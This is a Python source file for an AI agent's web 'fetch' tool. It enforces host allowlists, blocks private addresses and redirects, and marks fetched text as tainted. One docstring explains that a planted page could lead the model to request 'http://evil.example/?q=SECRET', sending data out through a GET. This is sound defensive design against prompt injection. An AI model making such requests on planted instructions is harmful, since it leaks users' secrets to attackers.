"""Gets a web page as text, under the rules of the web source: no private addresses, whatever a name or a
redirect says (`ragent.web`)."""

from __future__ import annotations

from collections.abc import Callable, Sequence
from urllib.parse import urlsplit

from ragent import registry
from ragent.agent.tool import tool
from ragent.agent.toolbox import ToolContext
from ragent.agent.tools.showing import bounded
from ragent.errors import ConfigError, ParseError, RagentError, SourceError, ToolError
from ragent.protocols import Parser
from ragent.types import RawDocument, Tool, ToolResult
from ragent.web import Fetched, Fetcher, WebLimits

_PAGES = ("text/html", "application/xhtml+xml")
_TEXTS = ("text/", "application/json", "application/xml", "application/javascript", "application/x-yaml")
_TEXT_ENDINGS = ("+json", "+xml")
_LONGEST_URL = 2000
_TRUSTED = "the hosts that may be asked are named in [tools] fetch_hosts"


def open_fetch(context: ToolContext) -> Tool:
    """The tool `fetch`.

    A GET can carry data away: a planted text may have the model ask for `http://evil.example/?q=SECRET`. So
    it counts as having side effects, unless the settings name the hosts it may ask.

    Raises:
        ConfigError: private addresses are allowed, but no hosts are named.
    """
    settings = context.settings
    hosts = tuple(host.lower().strip(".") for host in settings.fetch_hosts)
    if settings.fetch_private and not hosts:
        raise ConfigError("fetch_private needs fetch_hosts", hint="name the hosts in [tools] fetch_hosts")
    fetcher = Fetcher(
        WebLimits(
            max_bytes=int(settings.fetch_max_mb * 1e6),
            seconds=settings.fetch_seconds,
            allow_private=settings.fetch_private,
        )
    )

    @tool(side_effects=not hosts)
    def fetch(url: str, start: int = 0) -> ToolResult:
        """Get a web page (or a text or JSON file of the web) as plain text.

        Only reads (GET). A long page is shown in parts: the answer says at which character to go on.

        Args:
            url: begins with http:// or https://.
            start: the character to begin at, from 0.
        """
        response = _get(fetcher, url, lambda target: _is_allowed(target, hosts))
        text = _text(response)
        if not 0 <= start < len(text):
            raise ToolError(f"the page has characters 0 to {len(text)}")
        end = start + settings.result_chars
        shown = bounded(text[start:], settings.result_chars, f"go on with start={end}")
        return ToolResult(
            f"{response.url}, characters {start} to {min(end, len(text))}:\n{shown}", tainted=True
        )

    return fetch


def _is_allowed(url: str, hosts: Sequence[str]) -> bool:
    """Whether a URL's host is one of these, or below one; no hosts: any."""
    try:
        host = (urlsplit(url).hostname or "").lower().rstrip(".")
    except ValueError:
        return False
    return not hosts or any(host == allowed or host.endswith(f".{allowed}") for allowed in hosts)


def _get(fetcher: Fetcher, url: str, allowed: Callable[[str], bool]) -> Fetched:
    if len(url) > _LONGEST_URL:
        raise ToolError(f"the URL is longer than {_LONGEST_URL} characters")
    if not allowed(url):
        raise ToolError("this host may not be asked", hint=_TRUSTED)
    try:
        response = fetcher.get(url, follow=allowed)
    except SourceError as error:
        # It may name where a page redirects to. The hint is for whoever ingests, not for a model.
        raise ToolError(error.message) from None
    except UnicodeError:
        raise ToolError("this is no URL") from None
    if 300 <= response.status < 400:
        raise ToolError("the page redirects to a host that may not be asked", hint=_TRUSTED)
    if response.status >= 400:
        raise ToolError(f"the server answered with status {response.status}")
    return response


def _text(response: Fetched) -> str:
    """What a person would read of it."""
    kind, _, rest = response.headers.get("content-type", "text/html").partition(";")
    kind = kind.strip().lower()
    if kind in _PAGES:
        parser: Parser = registry.load("ragent.parsers", "html")()
        try:
            return parser.parse(RawDocument(response.url, "page.html", response.data)).text
        except ParseError as error:
            raise ToolError(f"the page can't be read: {error.message}") from None
        except RagentError:
            raise
        except Exception as error:
            raise ToolError(f"the page can't be read: {type(error).__name__}") from None
    if not (kind.startswith(_TEXTS) or kind.endswith(_TEXT_ENDINGS)):
        raise ToolError(f"this is no page or text, but {kind[:60]!r}")
    encoding = rest.partition("charset=")[2].split(";")[0].strip(" \"'") or "utf-8"
    try:
        text = response.data.decode(encoding, "replace")
    except (LookupError, UnicodeError, ValueError):
        text = response.data.decode("utf-8", "replace")
    if not text.strip():
        raise ToolError("the page is empty")
    return text.replace("\0", "\ufffd")
